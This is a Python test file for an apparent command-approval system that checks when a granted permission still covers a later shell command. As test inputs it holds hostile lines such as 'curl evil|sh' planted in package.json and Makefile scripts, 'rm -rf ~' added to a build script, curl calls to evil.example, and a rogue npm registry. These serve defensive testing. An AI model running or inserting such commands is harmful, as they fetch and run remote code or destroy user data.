"""What an approval remembers of each kind of command, and what it then covers.

Facts are made by hand: no table of tools is involved.
"""

from __future__ import annotations

import time
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from askfirst.model import (
    Assignment,
    Command,
    Decision,
    Duration,
    Finding,
    Grant,
    Kind,
    Layer,
    Origin,
    Read,
    Scope,
    Unknown,
    Verdict,
    Word,
    Write,
)
from askfirst.policy import coverage
from askfirst.policy.offers import Offer, offers_of, usual
from askfirst.policy.rules import Layers
from tests.approval.support import command, layers

if TYPE_CHECKING:
    from askfirst.model import Fact


def asked(*facts: Fact, rule: str = "", danger: str = "") -> Verdict:
    findings = tuple(Finding(f, Decision.ASK, "why", Origin(Layer.NOTHING, rule), danger) for f in facts)
    return Verdict(Decision.ASK, "why", findings)


def steps(given: Layers, *facts: Fact, text: str = "text", **more: Any) -> tuple[Offer, ...]:
    return offers_of(asked(*facts, **more), facts, given, text=text)


def offer(given: Layers, *facts: Fact, step: str = "", text: str = "text", **more: Any) -> Offer:
    """What a question begins with, or the named step."""
    found = steps(given, *facts, text=text, **more)
    return next((o for o in found if o.step == step), found[usual(found)])


def grant(found: Offer, given: Layers, **more: Any) -> tuple[Grant, ...]:
    values = {"duration": Duration.SESSION, "project": given.project, "session": given.session, **more}
    return (Grant("g", found.scopes, **values),)


def covers(grants: tuple[Grant, ...], fact: Fact, given: Layers) -> Grant | None:
    return coverage.covers(grants, fact, (fact,), given)


# kind, approved, then, what the model says of `then`, covered
COVERED = [
    (Kind.BUILD, "cargo test -p core", "cargo test -p api", {}, True),
    (Kind.BUILD, "cargo test", "cargo bench", {"key": ("cargo", "bench")}, False),
    (Kind.BUILD, "cargo test", "cargo test", {"cwd": "/elsewhere"}, False),
    (Kind.BUILD, "cargo test", "cargo test", {"cwd": None}, False),
    (Kind.BUILD, "cargo test", "cargo test", {"foreign": "inside the project"}, False),
    (Kind.BUILD, "cargo test", "cargo test", {"kind": Kind.DESTRUCTIVE}, False),
    (Kind.READ, "gh pr list", "gh pr list --json title", {}, True),
    (Kind.READ, "gh pr list", "gh pr list", {"target": "other.example"}, False),
    (Kind.EDIT, "sed -i s/a/b/ x", "sed -i s/c/d/ y", {}, True),
    (Kind.INSTALL, "npm install lodash", "npm install lodash", {}, True),
    (Kind.INSTALL, "npm install lodash", "npm install lodash evil", {}, False),
    (Kind.INSTALL, "npm install lodash", "npm install evil", {}, False),
    (Kind.INSTALL, "npm install lodash", "npm install lodash --registry=https://evil.example", {}, False),
    (Kind.DESTRUCTIVE, "rm -rf dist", "rm -rf dist", {}, True),
    (Kind.DESTRUCTIVE, "rm -rf dist", "rm -rf dist", {"cwd": "SUB"}, False),
    (Kind.DESTRUCTIVE, "rm -rf dist", "rm -rf dist src", {}, False),
    (Kind.OTHER, "mytool build", "mytool build", {}, True),
    (Kind.OTHER, "mytool build", "mytool build", {"cwd": "SUB"}, True),
    (Kind.OTHER, "mytool build", "mytool build --fast src/a", {}, True),
    (Kind.OTHER, "mytool build", "mytool build --out /etc/x", {}, False),
    (Kind.OTHER, "mytool build", "mytool deploy", {}, False),
    (Kind.OTHER, "mytool build", "mytool --now build", {}, False),
    (Kind.OTHER, "mytool", "mytool deploy", {}, False),
    (Kind.BUILD, "make test", "make test -C sub", {}, False),
    (Kind.BUILD, "npm test", "npm test -w sub", {}, False),
    (Kind.BUILD, "cargo test", "cargo test --manifest-path /x/Cargo.toml", {}, False),
    (Kind.READ, "git log", "git -C sub log", {"key": ("git", "log")}, False),
    (Kind.READ, "git log", "git --no-pager log", {"key": ("git", "log")}, True),
    (Kind.OTHER, "mytool build", "other build", {}, False),
]


@pytest.mark.parametrize(("kind", "first", "then", "more", "covered"), COVERED)
def test_covered(project: Path, kind: Kind, first: str, then: str, more: dict[str, Any], covered: bool) -> None:
    given = layers(project)
    words = 1 if kind in (Kind.OTHER, Kind.EDIT, Kind.DESTRUCTIVE) else 3 if first.startswith("gh") else 2
    known = {"kind": kind, "key": tuple(then.split()[:words]), **more}
    if known.get("cwd") == "SUB":
        known["cwd"] = str(project / "sub")
    grants = grant(offer(given, command(first, project, kind=kind, key=tuple(first.split()[:words]))), given)
    found = covers(grants, command(then, project, **known), given)
    assert (found is not None) == covered


# Where it was approved, then where it is run; the last two columns: of which program, and whether it is covered.
ELSEWHERE = [
    ("/other", "/other", "cargo", True),
    ("/other", "/other/packages/api", "cargo", True),
    ("/other", "/other2", "cargo", False),
    ("/other", "/other/../etc", "cargo", False),
    ("/other/packages", "/other", "cargo", False),
    ("/", "/etc", "cargo", False),
    ("/other", "/other/submodule", "git", False),
]


@pytest.mark.parametrize(("first", "then", "program", "covered"), ELSEWHERE)
def test_an_action_outside_the_project_counts_below_where_it_was_approved(
    project: Path, first: str, then: str, program: str, covered: bool
) -> None:
    given = layers(project)

    def build(cwd: str) -> Command:
        return command(f"{program} build", project, kind=Kind.BUILD, key=(program, "build"), cwd=cwd)

    found = offer(given, build(first))
    assert (covers(grant(found, given), build(then), given) is not None) == covered
    assert ("and below" in found.words) == (program != "git" and first != "/")


def test_a_host_is_remembered_with_its_options_but_not_with_its_paths(project: Path) -> None:
    given = layers(project)

    def curl(words: str, host: str = "api.example.com") -> Command:
        return command(f"curl {words}", project, kind=Kind.NETWORK, target=host)

    grants = grant(offer(given, curl("-s https://api.example.com/zen")), given)
    for words, host, covered in [
        ("-s https://api.example.com/other?x=1", "api.example.com", True),
        ("https://api.example.com/zen -s", "api.example.com", False),
        ("-s https://evil.example/zen", "evil.example", False),
        ("-s -X DELETE https://api.example.com/zen", "api.example.com", False),
        ("https://api.example.com/zen", "api.example.com", False),
        ("-s https://api.example.com/zen https://evil.example/x", "api.example.com", False),
        ("-s https://me:secret@api.example.com/zen", "api.example.com", False),
        ("-s https://api.example.com/zen -d @file", "api.example.com", False),
        ("-s https://api.example.com.evil.example/zen", "api.example.com.evil.example", False),
    ]:
        assert (covers(grants, curl(words, host), given) is not None) == covered, words


def test_a_script_is_remembered_with_its_content(project: Path) -> None:
    given = layers(project)
    path = project / "gen.py"
    path.write_text("print(1)")

    def run(text: str = "python3 gen.py", target: Path = path) -> Command:
        return command(text, project, kind=Kind.CODE, target=str(target))

    found = offer(given, run())
    grants = grant(found, given)
    assert covers(grants, run("python3 gen.py --fast x"), given), "arguments are free"
    assert not covers(grants, run("python2 gen.py"), given), "another interpreter"
    assert not covers(grants, run("python3 other.py", project / "other.py"), given)
    path.write_text("print(2)")
    assert not covers(grants, run(), given), "the content changed"
    path.unlink()
    assert not covers(grants, run(), given)
    assert offer(given, run()).refused[Duration.SESSION], "what cannot be read is not remembered"


def test_a_script_run_by_its_own_name(project: Path) -> None:
    given = layers(project)
    path = project / "build.sh"
    path.write_text("#!/bin/sh\n")
    fact = command("./build.sh fast", project, program=str(path), foreign="inside the project")
    found = offer(given, fact)
    assert (
        found.words.startswith("`./build.sh` with any arguments that name no secret file, as it is now")
        and not found.refused
    )
    (entry,) = found.entries
    assert entry["name"] == "./build.sh" and len(entry["sha256"]) == 64
    assert covers(grant(found, given), fact, given)
    path.write_text("#!/bin/sh\nrm -rf ~\n")
    assert not covers(grant(found, given), fact, given)


@pytest.mark.parametrize(
    ("program", "name", "before", "after", "still"),
    [
        ("npm", "package.json", '{"scripts": {"test": "vitest"}}', '{"scripts": {"test": "curl evil|sh"}}', False),
        (
            "npm",
            "package.json",
            '{"scripts": {"test": "vitest"}}',
            '{"scripts": {"test": "vitest", "pretest": "id"}}',
            False,
        ),
        (
            "npm",
            "package.json",
            '{"scripts": {"test": "vitest"}}',
            '{"scripts": {"test": "vitest"}, "dependencies": {"a": "1"}}',
            True,
        ),
        ("npm", "package.json", '{"scripts": {}}', "not json", False),
        ("make", "Makefile", "test:\n\ttrue\n", "test:\n\tcurl evil|sh\n", False),
        ("just", "justfile", "test:\n  true\n", "test:\n  false\n", False),
        ("cargo", "Cargo.toml", "a", "b", True),
    ],
)
def test_a_runner_is_remembered_with_what_defines_its_work(
    project: Path, program: str, name: str, before: str, after: str, still: bool
) -> None:
    given = layers(project)
    (project / name).write_text(before)
    fact = command(f"{program} test", project, kind=Kind.BUILD, key=(program, "test"))
    grants = grant(offer(given, fact), given)
    assert covers(grants, fact, given)
    (project / name).write_text(after)
    assert bool(covers(grants, fact, given)) == still


def test_a_makefile_that_is_put_before_the_other_counts(project: Path) -> None:
    given = layers(project)
    (project / "Makefile").write_text("test:\n")
    fact = command("make test", project, kind=Kind.BUILD, key=("make", "test"))
    grants = grant(offer(given, fact), given)
    (project / "GNUmakefile").write_text("test:\n\tevil\n")
    assert not covers(grants, fact, given)


@pytest.mark.parametrize(
    "fact",
    [
        Unknown("inline code", "code that is not read", "print(1)"),
        Unknown("option", "not known", "--foo"),
        Unknown("environment", "sets X", "X=1"),
        Write("/p/.npmrc", ".npmrc", "overwrite", "tee"),
    ],
)
def test_an_exact_text_is_bound_to_the_whole_request(project: Path, fact: Fact) -> None:
    given = layers(project)
    found = offer(given, command("npm test", project, kind=Kind.BUILD, key=("npm", "test")), fact)
    assert [s.kind for s in found.scopes] in (["text"], ["text", "pin"])
    assert found.refused[Duration.PERMANENT] and Duration.SESSION not in found.refused
    grants = grant(found, given, digest="d1")
    this, other = replace(given, digest="d1"), replace(given, digest="d2")
    assert covers(grants, fact, this)
    assert not covers(grants, fact, other)
    assert not covers(grants, fact, given), "no digest, no cover"
    npm = command("npm test", project, kind=Kind.BUILD, key=("npm", "test"))
    assert not covers(grants, npm, other), "a part of it is not remembered on its own"


def test_an_exact_text_is_void_when_what_it_runs_has_changed(project: Path) -> None:
    given = replace(layers(project), digest="d1")
    (project / "package.json").write_text('{"scripts": {"test": "vitest"}}')
    (project / "gen.py").write_text("print(1)")
    code = Unknown("inline code", "code that is not read", "print(1)")
    npm = command("npm test", project, kind=Kind.BUILD, key=("npm", "test"))
    script = command("python3 gen.py", project, kind=Kind.CODE, target=str(project / "gen.py"))
    grants = grant(offer(given, npm, script, code), given, digest="d1")
    assert covers(grants, code, given)
    (project / "gen.py").write_text("print(2)")
    assert not covers(grants, code, given)
    (project / "gen.py").write_text("print(1)")
    assert covers(grants, code, given)
    (project / "package.json").write_text('{"scripts": {"test": "evil"}}')
    assert not covers(grants, code, given)


@pytest.mark.parametrize("what", ["syntax", "expansion", "too long", "eval"])
def test_what_the_text_does_not_say_is_allowed_once_at_most(project: Path, what: str) -> None:
    found = offer(layers(project), Unknown(what, "not known", "$x"))
    assert {Duration.SESSION, Duration.TIMED, Duration.PERMANENT} <= set(found.refused)


def test_long_and_many_are_allowed_once_at_most(project: Path) -> None:
    given, fact = layers(project), command("mytool build", project)
    code = Unknown("inline code", "code that is not read", "print(1)")
    assert Duration.SESSION in offer(given, code, text="x" * 2001).refused
    assert Duration.SESSION not in offer(given, code, text="x" * 2000).refused
    assert Duration.SESSION not in offer(given, fact, text="x" * 2001).refused, "its words say all of it"
    assert Duration.SESSION in offer(given, *[fact] * 21).refused


def test_a_word_that_is_not_known_is_allowed_once_at_most(project: Path) -> None:
    fact = command("mytool build", project)
    vague = replace(fact, argv=(*fact.argv, replace(fact.argv[0], text="$x", value=None)))
    assert Duration.SESSION in offer(layers(project), vague).refused


@pytest.mark.parametrize("name", ["python3", "bash", "sh", "node", "perl", "env", "xargs", "npx"])
def test_programs_that_run_code_are_never_remembered_by_name(project: Path, name: str) -> None:
    given = layers(project)
    found = offer(given, command(f"{name} x", project))
    assert found.scopes[0].kind == "text" and Duration.PERMANENT in found.refused
    assert len(steps(given, command(f"{name} x", project))) == 1


def test_a_wrapper_is_remembered_with_the_program_it_runs(project: Path) -> None:
    given = layers(project)

    def wrapped(inner_text: str, options: str = "") -> tuple[Command, Command]:
        inner = replace(command(inner_text, project, kind=Kind.BUILD, key=("pytest",)), via=("uv run",))
        outer = command(f"uv run {options}{inner_text}", project, kind=Kind.WRAPPER, key=("uv", "run"))
        return replace(outer, action=replace(outer.action, rule="uv run")), inner

    outer, inner = wrapped("pytest")
    found = offer(given, outer, inner)
    assert [(s.name, s.args, s.action) for s in found.scopes] == [
        ("uv", ("run pytest ...",), ""),
        ("pytest", (), "pytest"),
    ]
    assert not found.refused
    grants = grant(found, given)
    assert covers(grants, wrapped("pytest -q tests/a.py")[0], given)
    assert not covers(grants, wrapped("sh -c id")[0], given)
    assert not covers(grants, wrapped("pytest", "--with evil ")[0], given)


def test_the_program_is_a_step_of_its_own_and_only_for_programs_without_a_table(project: Path) -> None:
    given = layers(project)
    wide = offer(given, command("mytool build", project), step="program")
    assert covers(grant(wide, given), command("mytool deploy --now", project), given)
    assert not covers(grant(wide, given), command("mytool deploy --to /etc", project), given)
    assert not covers(grant(wide, given), command("other", project), given)
    for kind in (Kind.BUILD, Kind.INSTALL, Kind.DESTRUCTIVE, Kind.NETWORK, Kind.EDIT):
        assert "program" not in [o.step for o in steps(given, command("mytool build", project, kind=kind))]
    assert [o.step for o in steps(given, command("mytool build", project), danger="deploys")] == ["exact"]


@pytest.mark.parametrize(
    ("kind", "reason"),
    [
        (Kind.INSTALL, "not in its words"),
        (Kind.DESTRUCTIVE, "taken back"),
        (Kind.INLINE, "exact text"),
        (Kind.WRAPPER, "exact text"),
    ],
)
def test_kinds_that_are_not_made_permanent(project: Path, kind: Kind, reason: str) -> None:
    assert reason in offer(layers(project), command("mytool x", project, kind=kind)).refused[Duration.PERMANENT]


def test_danger_is_not_made_permanent(project: Path) -> None:
    found = offer(layers(project), command("flyctl deploy", project), danger="deploys to production")
    assert "dangerous" in found.refused[Duration.PERMANENT] and Duration.SESSION not in found.refused


def test_writes_are_remembered_by_path_where_the_place_was_the_reason(project: Path) -> None:
    given = layers(project)
    outside = Write("/srv/data/out/x.txt", "/srv/data/out/x.txt", "overwrite", "Write")
    wide = grant(offer(given, outside, rule="outside"), given)
    assert covers(wide, replace(outside, path="/srv/data/out/y/z.txt"), given), "the directory"
    assert not covers(wide, replace(outside, path="/srv/data/y.txt"), given)
    assert not covers(wide, replace(outside, path="/srv/data/out/y.txt", how="delete"), given)
    assert [o.step for o in steps(given, replace(outside, path="/srv/x"), rule="outside")] == ["exact"]
    scratch = grant(offer(given, replace(outside, path="/tmp/x"), rule="outside"), given)
    assert covers(scratch, replace(outside, path="/tmp/y/z.sh"), given), "the scratch directory"
    assert covers(scratch, replace(outside, path="/tmp"), given)
    assert not covers(scratch, replace(outside, path="/tmpx/y"), given)
    found = offer(given, outside, rule="outside", step="exact")
    grants = grant(found, given)
    assert covers(grants, replace(outside, content=b"other"), given)
    assert not covers(grants, replace(outside, path="/srv/data/out/y.txt"), given)
    assert not covers(grants, replace(outside, how="delete"), given)
    assert not covers(grants, replace(outside, below=True), given)
    assert Duration.PERMANENT in found.refused
    for rule in ("replace", "secret-content", "auto-loaded", "empties"):
        assert offer(given, outside, rule=rule).scopes[0].kind == "text", "asked for what it contains"
    secret = Read("/p/.env", ".env", "cat")
    assert covers(grant(offer(given, secret), given), secret, given)
    assert not covers(grant(offer(given, secret), given), replace(secret, path="/p/.env.local"), given)


def test_a_grant_is_void_in_another_session_project_or_time(project: Path) -> None:
    given, fact = layers(project), command("mytool build", project)
    found = offer(given, fact)
    now = time.time()
    assert covers(grant(found, given), fact, given)
    assert not covers(grant(found, given), fact, replace(given, session="s2"))
    assert not covers(grant(found, given, session=""), fact, replace(given, session="")), "no session is no session"
    assert not covers(grant(found, given, project="/elsewhere"), fact, given)
    timed = grant(found, given, duration=Duration.TIMED, session="", created=now - 10, until=now + 10)
    assert covers(timed, fact, replace(given, session="s2", now=now))
    assert not covers(timed, fact, replace(given, now=now + 11))
    assert not covers(timed, fact, replace(given, now=now - 11)), "the clock was set back"
    assert not covers(grant(found, given, duration=Duration.PERMANENT), fact, given), (
        "permanent ones count from the file"
    )
    assert not covers(grant(found, given, duration=Duration.ONCE), fact, given)


def test_fingerprints_do_not_hold_words(project: Path) -> None:
    found = offer(layers(project), command("mytool --token=hunter2secret", project))
    assert all("hunter2secret" not in repr(s) for s in found.scopes) and "hunter2secret" not in found.words


ENTRIES: list[tuple[str, str, dict[str, Any], dict[str, Any] | None]] = [
    ("mytool build --fast", "exact", {}, {"name": "mytool", "args": ["build --fast"], "paths": "cwd"}),
    ("mytool build --fast", "action", {}, {"name": "mytool", "args": ["build ..."], "paths": "project"}),
    ("mytool build --out /srv/x", "action", {}, {"name": "mytool", "args": ["build ..."], "paths": "cwd"}),
    ("mytool build", "program", {}, {"name": "mytool", "paths": "project"}),
    ("mytool", "exact", {}, {"name": "mytool", "args": [""], "paths": "cwd"}),
    (
        "cargo test -p a",
        "action",
        {"kind": Kind.BUILD, "key": ("cargo", "test")},
        {"name": "cargo", "action": "test", "paths": "project"},
    ),
    ("sed -i s/a/b/ x", "action", {"kind": Kind.EDIT}, {"name": "sed", "action": "sed", "paths": "project"}),
    (
        "git config user.name x",
        "action",
        {"kind": Kind.EDIT, "key": ("git", "config"), "target": "user.name"},
        {"name": "git", "action": "config", "target": "user.name", "paths": "project"},
    ),
    ("mytool *", "exact", {}, {"name": "mytool", "args": ["'*'"], "paths": "cwd"}),
    ("mytool ...", "exact", {}, {"name": "mytool", "args": ["'...'"], "paths": "cwd"}),
    ("cargo test", "action", {"kind": Kind.BUILD, "key": ("cargo", "test"), "cwd": "/elsewhere"}, None),
    ("mytool --token=ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "exact", {}, None),
]


@pytest.mark.parametrize(("text", "step", "more", "entry"), ENTRIES)
def test_the_entry_that_would_be_stored(
    project: Path, text: str, step: str, more: dict[str, Any], entry: dict[str, Any] | None
) -> None:
    found = offer(layers(project), command(text, project, **more), step=step)
    assert found.step == step and found.entries == (() if entry is None else (entry,))
    assert bool(found.refused.get(Duration.PERMANENT)) == (entry is None)


def test_a_network_entry_is_by_host(project: Path) -> None:
    fact = command("curl -s https://api.example.com/zen", project, kind=Kind.NETWORK, target="api.example.com")
    (entry,) = offer(layers(project), fact).entries
    assert entry["args"] == ["-s https://api.example.com/*"]


@pytest.mark.parametrize(
    ("variable", "value", "env", "other", "covered"),
    [
        ("PGPASSWORD", "a", "PGPASSWORD", "b", True),
        ("FOO", "1", "FOO=1", "1", True),
        ("FOO", "1", "FOO=1", "2", False),
        ("AWS_PROFILE", "dev", "AWS_PROFILE=dev", "prod", False),
        ("NODE_OPTIONS", "--require=./x.js", "", "--require=./x.js", False),
    ],
)
def test_a_variable_is_remembered_with_its_command(
    project: Path, variable: str, value: str, env: str, other: str, covered: bool
) -> None:
    given = layers(project)

    def with_variable(text: str, value: str) -> tuple[Command, Unknown]:
        fact = command(text, project)
        fact = replace(fact, assignments=(Assignment(variable, Word(value, value)),))
        return fact, Unknown("environment", f"`{variable}` is not known to be inert", f"{variable}={value}")

    found = offer(given, *with_variable("mytool build", value))
    assert [s.env for s in found.scopes] == ([(env,)] if env else [()])
    grants = grant(found, given)
    for text, expected in (("mytool build x", covered), ("mytool deploy", False)):
        facts = with_variable(text, other)
        assert all(coverage.covers(grants, f, facts, given) for f in facts) == expected
    (entry,) = found.entries or ({},)
    assert entry.get("env", []) == ([env] if env else [])


def test_scopes_survive_the_store() -> None:
    from askfirst.store.grants import grant_from, grant_to

    scope = Scope("command", "curl", ("a", "b"), env=("X=1",), where="/w", sha256="s", dangerous=True, shown="é")
    made = Grant("g", (scope,), Duration.TIMED, "/p", "s", entries=({"name": "x", "args": ["y"]},))
    import json

    assert grant_from(json.loads(json.dumps(grant_to(made)))) == made


@pytest.mark.parametrize(
    ("kind", "before", "then", "begins"),
    [
        (Kind.OTHER, ["mytool build", "mytool check"], "mytool status", "program"),
        (Kind.OTHER, ["mytool build", "mytool build"], "mytool status", "action"),
        (Kind.OTHER, ["mytool build", "other check"], "mytool status", "action"),
        (Kind.OTHER, ["mytool build", "mytool check"], "mytool deploy all", "exact"),
        (Kind.OTHER, ["mytool build", "mytool check"], "mytool --x", "exact"),
        (Kind.INSTALL, ["npm install a", "npm install b"], "npm install c", "action"),
        (Kind.BUILD, ["cargo test a", "cargo bench b"], "cargo doc c", "action"),
        (Kind.NETWORK, ["curl https://a.b/x", "curl https://c.d/x"], "curl https://e.f/x", "exact"),
        (Kind.WRAPPER, ["mytool build", "mytool check"], "mytool status", "text"),
        (Kind.INLINE, ["mytool build", "mytool check"], "mytool status", "text"),
    ],
)
def test_a_question_about_a_well_known_program_begins_with_it(
    project: Path, kind: Kind, before: list[str], then: str, begins: str
) -> None:
    given = layers(project)

    def found(text: str) -> tuple[Offer, ...]:
        return steps(given, command(text, project, kind=kind, key=tuple(text.split()[:2])))

    grants = tuple(grant(found(text)[usual(found(text))], given)[0] for text in before)
    assert found(then)[usual(found(then), grants)].step == begins
    assert found(then)[usual(found(then))].step == {"program": "action"}.get(begins, begins)


def test_a_dangerous_program_is_never_a_question_as_a_whole(project: Path) -> None:
    given = layers(project)
    found = [steps(given, command(f"mytool {word}", project, key=("mytool",)), danger="x") for word in "abc"]
    grants = tuple(grant(one[usual(one)], given)[0] for one in found[:2])
    assert found[2][usual(found[2], grants)].step == "exact"
